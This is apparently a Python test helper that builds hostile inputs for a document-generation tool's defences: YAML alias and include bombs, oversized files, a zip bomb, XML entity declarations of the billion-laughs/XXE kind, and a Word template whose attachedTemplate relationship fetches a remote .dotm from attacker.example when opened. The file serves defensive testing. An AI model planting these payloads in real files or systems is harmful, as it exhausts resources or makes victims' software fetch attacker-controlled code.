"""Generators for the hostile corpus's large or binary inputs (never committed: each is built in
a test's temporary folder). Every function writes one file and returns its path."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
MINIMAL = ROOT / "tests" / "data" / "minimal.yaml"


def minimal_with(path: Path, old: str, new: str) -> Path:
    """tests/data/minimal.yaml with one exact piece of text replaced."""
    text = MINIMAL.read_text(encoding="utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new), encoding="utf-8")
    return path


def rule_template(path: Path, template: str) -> Path:
    """minimal.yaml whose first field rule is a (hostile) placeholder template."""
    quoted = template.replace("\\", "\\\\").replace('"', '\\"')
    return minimal_with(path, "rule: {zh: 小写, en: Lower-case}", f'rule: "{quoted}"')


def alias_bomb_without_spaces(path: Path, levels: int = 9, width: int = 10) -> Path:
    """Anchors written right after ':' and '[' ("b":&b [*a,*a,...]): ten to the ninth values."""
    parts = ['"a0":&a0 [' + ",".join(['"x"'] * width) + "]"]
    for level in range(1, levels):
        parts.append(f'"a{level}":&a{level} [' + ",".join([f"*a{level - 1}"] * width) + "]")
    path.write_text("id: bomb\nx: {" + ",".join(parts) + "}\n", encoding="utf-8")
    return path


def oversized_yaml(path: Path, megabytes: int = 6) -> Path:
    """A blueprint-looking file just over the byte budget (comments: cheap to parse if read)."""
    line = "# " + "padding " * 12 + "\n"
    path.write_text("id: big\n" + line * (megabytes * 1024 * 1024 // len(line) + 1), encoding="utf-8")
    return path


def many_includes(path: Path, count: int = 400_000) -> Path:
    """A blueprint including one fragment 400,000 times (took six minutes before the budget)."""
    text = MINIMAL.read_text(encoding="utf-8").replace("include: [roles, plans]", "include: [" + ", ".join(["roles"] * count) + "]")
    path.write_text(text, encoding="utf-8")
    return path


def rewrite_zip(source: bytes, path: Path, change=None, extra: dict[str, bytes] | None = None) -> Path:
    """A copy of a zip package with ``change(name, data) -> data`` applied and parts added."""
    src = zipfile.ZipFile(io.BytesIO(source))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            data = src.read(info.filename)
            out.writestr(info.filename, change(info.filename, data) if change else data)
        for name, data in (extra or {}).items():
            out.writestr(name, data)
    return path


def zip_bomb_part(source: bytes, path: Path, megabytes: int = 8) -> Path:
    """The package plus one part of zeros that inflates about a thousandfold."""
    return rewrite_zip(source, path, extra={"customXml/padding.xml": b"\0" * (megabytes * 1024 * 1024)})


def with_doctype(source: bytes, path: Path, part: str) -> Path:
    """An entity declaration (the start of XXE and billion-laughs attacks) in one XML part."""
    bomb = b'<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'

    def insert(name: str, data: bytes) -> bytes:
        if name != part:
            return data
        end = data.find(b"?>") + 2 if data.startswith(b"<?xml") else 0  # after the XML declaration
        return data[:end] + bomb + data[end:]
    return rewrite_zip(source, path, insert)


def blank_docx() -> bytes:
    import docx

    out = io.BytesIO()
    document = docx.Document()
    document.add_paragraph("template")
    document.save(out)
    return out.getvalue()


def docx_page(path: Path, width: str) -> Path:
    """A Word template whose page width is written as ``width`` (any unit, or nonsense)."""
    return rewrite_zip(blank_docx(), path, lambda name, data: re.sub(rb'<w:pgSz w:w="\d+"', f'<w:pgSz w:w="{width}"'.encode(),
                                                                     data) if name == "word/document.xml" else data)


def docx_without_body(path: Path) -> Path:
    return rewrite_zip(blank_docx(), path, lambda name, data: re.sub(rb"<w:body>.*</w:body>", b"", data, flags=re.S)
                       if name == "word/document.xml" else data)


def docx_attached_template(path: Path) -> Path:
    """A template that makes Word fetch a remote .dotm when the deliverable is opened."""
    rels = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            b'package/2006/relationships"><Relationship Id="rIdRemote" Type="http://schemas.openxmlformats.org/officeDocument/'
            b'2006/relationships/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/>'
            b"</Relationships>")
    return rewrite_zip(blank_docx(), path,
                       lambda name, data: data.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rIdRemote"/><w:zoom', 1)
                       if name == "word/settings.xml" else data, extra={"word/_rels/settings.xml.rels": rels})


def docx_heading_style_without_id(path: Path) -> Path:
    """A template whose 'heading 1' style has no w:styleId (Word tolerates it)."""
    return rewrite_zip(blank_docx(), path, lambda name, data: re.sub(rb'(<w:style [^>]*?)w:styleId="Heading1"', rb"\1", data)
                       if name == "word/styles.xml" else data)


def workbook_with_rows(source: Path, path: Path, sheet: str, rows: int) -> Path:
    """The exported workbook with ``rows`` extra data rows (key column only) on one sheet."""
    import openpyxl

    wb = openpyxl.load_workbook(source)
    ws = wb[sheet]
    for n in range(rows):
        ws.append([f"k{n}"])
    wb.save(path)
    return path
